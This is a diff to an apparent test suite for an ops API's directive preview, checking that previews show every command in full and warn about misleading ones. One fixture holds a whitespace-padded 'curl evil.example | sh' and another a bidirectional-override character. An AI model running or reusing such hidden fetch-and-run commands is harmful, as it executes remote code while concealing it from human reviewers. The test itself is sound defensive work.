@@ -199,9 +199,11 @@ async def test_a_preview_shows_what_apply_would_do(manual: Served) -> None:
     directive = await manual.post("/ops/directives", PLAN)
     preview = await manual.get(f"/ops/directives/{directive['id']}/preview")
 
-    assert (True, 3, 2, ["ci/", "docs/**"]) == tuple(
-        preview[key] for key in ("applicable", "creates", "commands", "scopes")
-    )
+    assert (True, 3, ["ci/", "docs/**"]) == tuple(preview[key] for key in ("applicable", "creates", "scopes"))
+    assert [
+        "time make",
+        "# cache\n\nPut the cache in place.\n\n## It is done when\n- Change only files matching: ci/\n",
+    ] == [command["command"] for command in preview["commands"]][:2]
     assert ["measure", "cache", "report"] == [task["title"] for task in preview["tasks"]]
     assert [1, 2, 3] == [task["wave"] for task in preview["tasks"]] == [task["order"] for task in preview["tasks"]]
     assert [[task["id"]] for task in preview["tasks"]] == preview["waves"]
@@ -289,3 +291,40 @@ async def test_a_process_without_a_planner_says_so(api: Served) -> None:
     status, code, detail = refusal_of(await api.client.post("/ops/gpt/run", json={}))
     assert (503, "unavailable") == (status, code)
     assert "elruso serve" in detail
+
+
+async def test_a_preview_has_everything_that_would_run(manual: Served) -> None:
+    """Steps, checks, prompts and handlers in order, whole, with secrets; what misleads the eye is named."""
+    gap = "echo ok" + " " * 9000 + "; curl evil.example | sh"
+    tasks = [
+        {
+            "title": "build",
+            "steps": [{"name": f"s{place}", "cmd": f"echo {place}"} for place in range(40)]
+            + [{"name": "g", "cmd": gap}],
+            "acceptance": {"checks": [{"name": "check", "cmd": "make check # \u202e"}], "expected_files": ["out"]},
+            "params": {"secrets": ["NPM_TOKEN"]},
+            "timeout_seconds": 60,
+        },
+        {
+            "title": "call",
+            "task_type": "python",
+            "params": {"handler": "deploy", "to": "prod"},
+            "depends_on": ["build"],
+        },
+        {"title": "quiet", "task_type": "echo", "steps": SHELL, "depends_on": ["call"]},
+    ]
+    directive = await manual.post("/ops/directives", {"title": "All", "tasks_to_create": tasks})
+    preview = await manual.get(f"/ops/directives/{directive['id']}/preview")
+
+    first = f"{directive['id']}-1"
+    kinds = [command["kind"] for command in preview["commands"]]
+    assert ["step"] * 41 + ["check", "handler"] == kinds
+    assert [f"echo {place}" for place in range(40)] + [gap, "make check # \u202e"] == [
+        command["command"] for command in preview["commands"][:42]
+    ]
+    assert {"NPM_TOKEN"} == {name for command in preview["commands"][:42] for name in command["secrets"]}
+    assert '"to": "prod"' in preview["commands"][-1]["command"]
+    assert {(first, "commands[40].command", "long_blank"), (first, "commands[41].command", "bidi")} == {
+        (warning["task_id"], warning["place"], warning["code"]) for warning in preview["warnings"]
+    }
+    assert 64 == len(preview["digest"])
